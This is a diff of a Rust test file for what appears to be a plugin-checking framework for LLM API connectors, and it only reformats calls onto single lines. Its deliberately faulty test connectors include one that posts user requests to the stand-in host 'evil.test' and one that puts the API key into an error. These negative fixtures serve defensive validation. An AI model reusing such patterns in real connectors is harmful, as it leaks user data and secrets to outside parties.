@@ -8,9 +8,7 @@ const MANIFEST: &str = r#"{"id": "acme", "title": "Acme", "dialects": ["openai-c
     "env": {"api_key": "ACME_API_KEY"}, "egress": ["api.acme.example"], "reads_secret": true}"#;
 
 fn post(base: &str, turn: &Turn) -> HttpRequest {
-    HttpRequest::post(format!("{base}/chat/completions"))
-        .bearer("api_key")
-        .json(turn.body.clone())
+    HttpRequest::post(format!("{base}/chat/completions")).bearer("api_key").json(turn.body.clone())
 }
 
 fn get(base: &str) -> HttpRequest {
@@ -77,26 +75,17 @@ fn manifests() {
     caught(checks::manifest_is_valid::<NoTitle>(&sample), "title");
     caught(checks::manifest_is_valid::<NoKey>(&sample), "env");
     caught(checks::manifest_is_valid::<Url>(&sample), "egress");
-    caught(
-        checks::answer_reaches_the_client::<Spelled>(&sample),
-        "nothing can be checked",
-    );
+    caught(checks::answer_reaches_the_client::<Spelled>(&sample), "nothing can be checked");
 }
 
 #[test]
 fn configs() {
     connector!(Needy, create(with) { with.config.get("region").ok_or(Error::new("bad_config", "region is missing"))?; });
-    caught(
-        checks::empty_config_creates::<Needy>(&plain()),
-        "region is missing",
-    );
+    caught(checks::empty_config_creates::<Needy>(&plain()), "region is missing");
     connector!(Rash, create(with) { with.config.get("models").map(|models| models.as_array().expect("a list")); });
     caught(checks::odd_config_is_no_panic::<Rash>(&plain()), "panic");
     connector!(Stubborn, turn(_me, cx, turn) { cx.http(post(BASE, turn)).await?.splice(); return Ok(()); });
-    caught(
-        checks::configured_base_url_is_used::<Stubborn>(&plain()),
-        "it calls",
-    );
+    caught(checks::configured_base_url_is_used::<Stubborn>(&plain()), "it calls");
 }
 
 #[test]
@@ -104,33 +93,21 @@ fn answers() {
     connector!(Panics, turn(_me, _cx, _turn) { panic!("oh") });
     caught(checks::answer_reaches_the_client::<Panics>(&plain()), "panic: oh");
     connector!(Silent, turn(_me, _cx, _turn) { return Ok(()); });
-    caught(
-        checks::answer_reaches_the_client::<Silent>(&plain()),
-        "without an answer",
-    );
+    caught(checks::answer_reaches_the_client::<Silent>(&plain()), "without an answer");
     connector!(Stuck, turn(_me, _cx, _turn) { std::future::pending::<()>().await; });
-    caught(
-        checks::answer_reaches_the_client::<Stuck>(&plain()),
-        "nothing that it asked for",
-    );
+    caught(checks::answer_reaches_the_client::<Stuck>(&plain()), "nothing that it asked for");
     connector!(Abroad, turn(_me, cx, turn) { cx.http(post("https://evil.test", turn)).await?.splice(); return Ok(()); });
     caught(checks::answer_reaches_the_client::<Abroad>(&plain()), "egress");
     connector!(Leaky, turn(me, cx, turn) { Box::leak(Box::new(cx.http(post(&me.0, turn)).await?)); cx.answer("{}"); return Ok(()); });
     caught(checks::answer_reaches_the_client::<Leaky>(&plain()), "left open");
     connector!(Twice, turn(me, cx, turn) { cx.http(post(&me.0, turn)).await?.splice(); cx.answer("{}"); return Ok(()); });
-    caught(
-        checks::answer_reaches_the_client::<Twice>(&plain()),
-        "after a complete answer",
-    );
+    caught(checks::answer_reaches_the_client::<Twice>(&plain()), "after a complete answer");
 }
 
 #[test]
 fn upstreams() {
     connector!(Rosy, turn(me, cx, turn) { let _ = cx.http(post(&me.0, turn)).await; cx.answer("{}"); return Ok(()); });
-    caught(
-        checks::upstream_errors_reach_the_client::<Rosy>(&plain()),
-        "upstream says 400",
-    );
+    caught(checks::upstream_errors_reach_the_client::<Rosy>(&plain()), "upstream says 400");
     caught(checks::dead_upstream_is_an_error::<Rosy>(&plain()), "no error");
     connector!(Lenient, turn(me, cx, turn) {
         let mut answer = cx.http(post(&me.0, turn)).await?;
@@ -139,20 +116,14 @@ fn upstreams() {
         }
         return Ok(());
     });
-    caught(
-        checks::cut_answer_is_not_whole::<Lenient>(&plain()),
-        "looks finished",
-    );
+    caught(checks::cut_answer_is_not_whole::<Lenient>(&plain()), "looks finished");
     connector!(Keyless, turn(me, cx, turn) {
         if cx.secret("api_key").await.is_err() {
             let request = HttpRequest::post(format!("{}/chat", me.0)).json(turn.body.clone());
             cx.http(request).await?.splice(); return Ok(());
         }
     });
-    caught(
-        checks::missing_secret_is_an_error::<Keyless>(&plain()),
-        "without its secret",
-    );
+    caught(checks::missing_secret_is_an_error::<Keyless>(&plain()), "without its secret");
 }
 
 #[test]
@@ -162,20 +133,14 @@ fn other_tasks() {
     connector!(Eager, other(cx) { cx.answer("{}"); });
     caught(checks::unknown_task_is_unsupported::<Eager>(&plain()), "succeeds");
     connector!(Fragile, turn(_me, _cx, turn) { lip_plugin::serde_json::from_slice::<Value>(&turn.body).expect("JSON"); });
-    caught(
-        checks::garbage_is_survived::<Fragile>(&plain()),
-        "garbage from the client",
-    );
+    caught(checks::garbage_is_survived::<Fragile>(&plain()), "garbage from the client");
 }
 
 #[test]
 fn what_stays_behind() {
     static KEPT: std::sync::Mutex<Vec<Buf>> = std::sync::Mutex::new(Vec::new());
     connector!(Hoarder, turn(_me, _cx, turn) { KEPT.lock().expect("a lock").push(turn.body.clone()); });
-    caught(
-        checks::cancelling_lets_go::<Hoarder>(&plain()),
-        "keeps the request's bytes",
-    );
+    caught(checks::cancelling_lets_go::<Hoarder>(&plain()), "keeps the request's bytes");
     connector!(Chatty, turn(_me, cx, _turn) { return Err(Error::new("auth", cx.secret("api_key").await?)); });
     caught(checks::secrets_stay_hidden::<Chatty>(&plain()), "error");
 }
@@ -194,10 +159,7 @@ fn clock_moves_only_by_sleeping_and_values_age() {
         return Ok(());
     });
     let seen = Stage::of::<Sleepy>().stored("", "earlier", "v").turn("{}").run();
-    assert_eq!(
-        (seen.text().as_str(), seen.slept_ms),
-        ("5000 true false true", 5_000)
-    );
+    assert_eq!((seen.text().as_str(), seen.slept_ms), ("5000 true false true", 5_000));
 }
 
 #[test]
@@ -211,14 +173,7 @@ fn replies_are_served_in_order_and_by_route() {
         return Ok(());
     });
     let stage = Stage::of::<Asks>().reply(Reply::text(200, "four").only_for("POST", "/chat/completions"));
-    let seen = stage
-        .reply(Reply::chunks(200, "text/plain", ["a", "b"]))
-        .turn("{}")
-        .run();
+    let seen = stage.reply(Reply::chunks(200, "text/plain", ["a", "b"])).turn("{}").run();
     assert_eq!(seen.text(), r#"2 4 [("content-type", "text/plain")]"#);
-    assert_eq!(
-        Stage::of::<Asks>().turn("{}").run().code(),
-        "io",
-        "no reply is scripted"
-    );
+    assert_eq!(Stage::of::<Asks>().turn("{}").run().code(), "io", "no reply is scripted");
 }
